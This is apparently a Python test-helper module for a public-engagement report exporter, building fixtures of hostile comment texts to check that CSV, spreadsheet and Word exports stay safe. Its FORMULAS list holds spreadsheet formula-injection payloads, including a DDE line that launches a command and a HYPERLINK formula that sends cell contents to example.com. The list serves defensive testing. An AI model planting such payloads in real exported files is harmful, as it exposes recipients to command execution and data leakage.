"""Reports for the tests of data files, the worst that people can type, and readers of CSV."""

import csv
import io
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

from engage.privacy.disclosure import Figure
from engage.reports.build import build_report, gather, report_of
from engage.reports.renderers.data import write_data
from engage.reports.renderers.docx import render_docx
from engage.reports.rules import PublishedComment, Quotation, Report, Row, Table, Theme
from engage.reports.words import Words
from tests.reports.factories import declined, many_comments, published, source, templates

FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?"&A1,"here")',
    "=WEBSERVICE(A1)",
    "{=SUM(A1:A9)}",
    "\t=1",
    "  =1",
    "\u200b=1",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "Fine;=1+1;and more",
    'Fine";=1+1;"',
    "Fine\n=1+1",
    "Fine\t=1+1",
    "'=1+1",
)
MARKUP = (
    "<r><t>rich</t></r>",
    "<r></r>",
    "</t></is></c><c><f>1+1</f></c>",
    "]]> <!-- --> &amp; &#x41; <b>bold</b>",
    "_x0041_ _x005F_x0041_ _x000D_",
    "{{ 7*7 }} {% x %} ${7*7}",
    "http://example.com mailto:a@example.com internal:Sheet1!A1",
    "1234.50",
    "1E+6",
    "2026-03-02",
    "TRUE",
    "#REF!",
)
SCRIPTS = (
    "👍🏽 👨‍👩‍👧‍👦 🇨🇦",
    "שלום לכולם, the ferry",
    "العبارة لا تكفي",
    "ਅਸੀਂ ਸਵੇਰ ਦੀ ਕਿਸ਼ਤੀ",
    "我们需要更早的船",
    "ᑕᓂᓯ ᓇᒨᔭ",
    "Z̸a̷l̵g̶o",
    "w" * 5_000,
    "line\nline\n\nparagraph",
    "  room before and behind  ",
)
HOSTILE = FORMULAS + MARKUP + SCRIPTS


def reports(*languages: str) -> list[Report]:
    """One lively engagement in each language."""
    made = gather(source(*many_comments()))
    return [report_of(made, 10, Words(language)) for language in languages]


def meagre(language: str = "en") -> Iterator[Report]:
    """Engagements that have little to tell."""
    yield build_report(source(topics=(), opens_at=None, contact="", summary=""), language=language)
    yield build_report(source(closes_at=None), language=language)
    yield build_report(source(published("The only one.")), language=language)
    yield build_report(source(*(declined() for _ in range(12))), language=language)
    yield build_report(source(declined("threat")), language=language)


def holding(*texts: str, language: str = "en") -> Report:
    """A report that holds exactly these comments, whatever would have become of them before."""
    (report,) = reports(language)
    topic, period = report.topics[0].slug, report.periods[0].label
    return replace(report, comments=tuple(PublishedComment(topic, period, one) for one in texts))


def rich(language: str = "en") -> Report:
    """With themes, quotations in several languages, and figures of every kind."""
    (report,) = reports(language)
    figures = (Figure(exact=1234), Figure(exact=0), Figure(fewer_than=10), Figure())
    labels = ("Fares", "Parking", "Dogs", "Noise")
    quotations = (
        Quotation("Too dear.\n\nFor all of us.", "en-CA", "A letter, 2025"),
        Quotation("Trop cher.", "fr-CA"),
        Quotation("العبارة لا تكفي", "ar"),
    )
    return replace(
        report,
        tables=(
            *report.tables,
            Table(
                "themes",
                "themes",
                "What people spoke of",
                "Theme",
                ("Comments",),
                tuple(Row(label, (n,)) for label, n in zip(labels, figures, strict=True)),
                "A note.",
                ("fares", "parking", "dogs", "noise"),
                ("comments",),
            ),
        ),
        themes=(
            Theme(
                "fares",
                "Fares",
                "What a crossing costs.",
                figures[0],
                quotations,
                (Theme("dogs", "Dogs", "", figures[2]),),
            ),
        ),
    )


def data_files(report: Report, folder: Path) -> dict[str, Path]:
    """The data files by the end of their names: 'comments.csv', 'data.xlsx' and so on."""
    paths, _content_hash = write_data(report, folder, lambda _share: None)
    return {path.name.removeprefix(f"{report.slug}-"): path for path in paths}


def document(report: Report) -> bytes:
    return render_docx(report, templates(), "0" * 64)


def rows_of(path: Path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def as_excel_reads(text: str, separator: str) -> Iterator[str]:
    """Cells of a CSV file as Excel parts them where its separator is another one.

    A quote counts only at the beginning of a cell; behind the closing one, all is taken as it is.
    """
    cell, is_quoted, place = "", False, 0
    while place < len(text):
        sign = text[place]
        if is_quoted and sign == '"' and text[place + 1 : place + 2] == '"':
            cell, place = cell + sign, place + 1
        elif sign == '"' and (is_quoted or not cell):
            is_quoted = not is_quoted
            cell = cell or "\ufeff"  # the cell has begun: a quote that follows is one of its signs
        elif not is_quoted and (sign == separator or sign in "\r\n"):
            yield cell.lstrip("\ufeff")
            cell = ""
        else:
            cell += sign
        place += 1
    yield cell.lstrip("\ufeff")
